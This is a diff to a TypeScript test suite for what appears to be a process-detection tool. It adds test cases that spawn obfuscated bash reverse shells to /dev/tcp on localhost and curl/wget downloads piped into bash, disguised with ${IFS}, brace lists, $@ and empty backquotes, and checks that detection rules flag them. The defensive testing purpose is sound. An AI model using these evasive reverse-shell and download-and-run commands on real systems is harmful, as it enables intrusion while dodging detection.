@@ -21,6 +21,8 @@ let escapedKworkerPid = 0;
 let zeroWidthKworkerPid = 0;
 let quotedShellPids: number[] = [];
 let expandedShellPid = 0;
+let normalizedShellPids: number[] = [];
+let normalizedDownloadPids: number[] = [];
 let alerts: Alert[] = [];
 
 beforeAll(async () => {
@@ -47,7 +49,20 @@ beforeAll(async () => {
     await suspects.reverseShell({}, (port) => `bash -i >& /d\\ev/tc\\p/127.0.0.1/${port} 0>&1; true`),
     await suspects.reverseShell({}, (port) => `bash -i >& $'\\x2fdev\\x2ftcp'/127.0.0.1/${port} 0>&1; true`),
   ];
-  // 6. A reverse shell whose /dev/tcp is built by a variable: no command-line rule can read it.
+  // 6. Issue 22's expansions: reverse shells and downloads piped into bash whose words are spaced out by ${IFS},
+  // written as brace lists, or split by $@, $(), empty backquotes or an unset variable. A bare environment, so
+  // the variables are unset here as an attacker's are (and no proxy catches the loopback download).
+  const bare = {env: {PATH: process.env.PATH ?? '/usr/bin:/bin'}};
+  normalizedShellPids = [
+    await suspects.reverseShell(bare, (port) => `{bash,-i}\${IFS}>&/dev/t$@cp/127.0.0.1/${port} 0>&1; true`),
+    await suspects.reverseShell(bare, (port) => `bash\${IFS}-i >& /dev/tc\${__de_x}p/127.0.0.1/${port} 0>&1; true`),
+    await suspects.reverseShell(bare, (port) => `bash -i >& /dev/t\`\`cp/127.0.0.1/${port} 0>&1; true`),
+  ];
+  normalizedDownloadPids = [
+    await suspects.downloadAndRun((url) => `c$@url\${IFS}-fsS\${IFS}${url}|ba$()sh`, bare),
+    await suspects.downloadAndRun((url) => `{wget,-qO-,${url}}|{bash,-s}`, bare),
+  ];
+  // 7. A reverse shell whose /dev/tcp is built by a variable: no command-line rule can read it.
   expandedShellPid = await suspects.reverseShell({}, (port) => `x=t; bash -i >& /dev/\${x}cp/127.0.0.1/${port} 0>&1; true`);
 
   const detect = await runCli(['detect', '--format', 'json', '--verbose', '--log-format', 'json'], {env, timeoutMs: 120_000});
@@ -113,8 +128,16 @@ describe('detect with the built-in rules on real suspicious processes', () => {
     for (const pid of quotedShellPids) expect(reported('reverse-shell-command-line', pid)?.severity, String(pid)).toBe('critical');
   });
 
+  it('reports the reverse shells written with ${IFS}, a brace list, $@, an unset ${x} or empty backquotes inside /dev/tcp (critical)', () => {
+    for (const pid of normalizedShellPids) expect(reported('reverse-shell-command-line', pid)?.severity, String(pid)).toBe('critical');
+  });
+
+  it('reports the downloads piped into bash written as c$@url${IFS}…|ba$()sh and {wget,…}|{bash,-s} (medium)', () => {
+    for (const pid of normalizedDownloadPids) expect(reported('download-and-execute', pid)?.severity, String(pid)).toBe('medium');
+  });
+
   it('reports the shell on an outgoing TCP connection (critical), whatever the command line that started it says', () => {
-    for (const outer of [reverseShellPid, expandedShellPid, ...quotedShellPids]) {
+    for (const outer of [reverseShellPid, expandedShellPid, ...quotedShellPids, ...normalizedShellPids]) {
       const alert = alerts.find(
         (a) => a.rule_id === 'reverse-shell-stdio-tcp' && ((a.alert_data as {processes?: {ppid?: number}[]}).processes ?? []).some((row) => row.ppid === outer),
       );
